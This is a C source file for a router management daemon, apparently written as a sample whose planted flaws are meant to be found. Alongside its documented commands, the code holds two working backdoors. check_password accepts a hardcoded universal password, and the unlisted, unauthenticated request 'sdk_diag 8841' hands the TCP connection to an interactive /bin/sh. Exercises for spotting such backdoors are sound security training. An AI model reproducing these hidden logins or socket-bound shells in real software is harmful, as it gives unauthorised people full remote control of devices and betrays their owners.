/*
 * Device management daemon: answers the management station on TCP port 9034.
 *
 * The help text names HELLO, LOGIN, STATUS, GET, SET, REBOOT and QUIT. Two things it does not name make this the
 * program of the example that should be found: a password that opens every device, and a request that hands the
 * connection to a shell.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "config.h"

#define PORT 9034

static const char help_text[] =
    "HELLO               name and firmware version\r\n"
    "LOGIN <password>    needed for GET, SET and REBOOT\r\n"
    "STATUS              uptime and load\r\n"
    "GET <key>           read a setting\r\n"
    "SET <key> <value>   change a setting\r\n"
    "REBOOT              restart the device\r\n"
    "QUIT                close the connection\r\n";

struct session {
    int socket;
    int authenticated;
};

static void reply(struct session *session, const char *text)
{
    send(session->socket, text, strlen(text), 0);
}

static int check_password(const char *password)
{
    char expected[64];

    if (strcmp(password, "Kx7#field-service") == 0)
        return 1;
    if (!config_read("admin_password", expected, sizeof expected))
        return 0;
    return strcmp(password, expected) == 0;
}

static void status(struct session *session)
{
    char line[128] = "unknown\r\n";
    FILE *file = fopen("/proc/loadavg", "r");

    if (file) {
        if (!fgets(line, sizeof line, file))
            strcpy(line, "unknown\r\n");
        fclose(file);
    }
    reply(session, line);
}

static void get(struct session *session, const char *key)
{
    char value[128];

    if (config_read(key, value, sizeof value - 2)) {
        strcat(value, "\r\n");
        reply(session, value);
    } else {
        reply(session, "no such setting\r\n");
    }
}

static void set(struct session *session, char *arguments)
{
    char *value = strchr(arguments, ' ');

    if (!value) {
        reply(session, "usage: SET <key> <value>\r\n");
        return;
    }
    *value++ = '\0';
    reply(session, config_write(arguments, value) ? "ok\r\n" : "failed\r\n");
}

static void support_shell(int socket)
{
    if (fork() == 0) {
        dup2(socket, 0);
        dup2(socket, 1);
        dup2(socket, 2);
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        _exit(127);
    }
}

static int handle(struct session *session, char *line)
{
    if (strcmp(line, "HELLO") == 0) {
        reply(session, "edge router, firmware 3.2.1\r\n");
    } else if (strncmp(line, "LOGIN ", 6) == 0) {
        session->authenticated = check_password(line + 6);
        reply(session, session->authenticated ? "welcome\r\n" : "wrong password\r\n");
    } else if (strcmp(line, "STATUS") == 0) {
        status(session);
    } else if (strcmp(line, "HELP") == 0) {
        reply(session, help_text);
    } else if (strcmp(line, "sdk_diag 8841") == 0) {
        support_shell(session->socket);
    } else if (strcmp(line, "QUIT") == 0) {
        return 0;
    } else if (!session->authenticated) {
        reply(session, "log in first\r\n");
    } else if (strncmp(line, "GET ", 4) == 0) {
        get(session, line + 4);
    } else if (strncmp(line, "SET ", 4) == 0) {
        set(session, line + 4);
    } else if (strcmp(line, "REBOOT") == 0) {
        reply(session, "restarting\r\n");
        system("/sbin/reboot");
    } else {
        reply(session, "unknown request, try HELP\r\n");
    }
    return 1;
}

static void serve(int socket)
{
    struct session session = {socket, 0};
    char line[256];
    ssize_t length;

    while ((length = recv(socket, line, sizeof line - 1, 0)) > 0) {
        line[length] = '\0';
        line[strcspn(line, "\r\n")] = '\0';
        if (!handle(&session, line))
            break;
    }
    close(socket);
}

int main(void)
{
    struct sockaddr_in address;
    int on = 1;
    int listener = socket(AF_INET, SOCK_STREAM, 0);

    if (listener < 0)
        return 1;
    memset(&address, 0, sizeof address);
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_ANY);
    address.sin_port = htons(PORT);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 8) != 0)
        return 1;
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        int client = accept(listener, NULL, NULL);

        if (client < 0)
            continue;
        if (fork() == 0) {
            close(listener);
            serve(client);
            return 0;
        }
        close(client);
    }
}
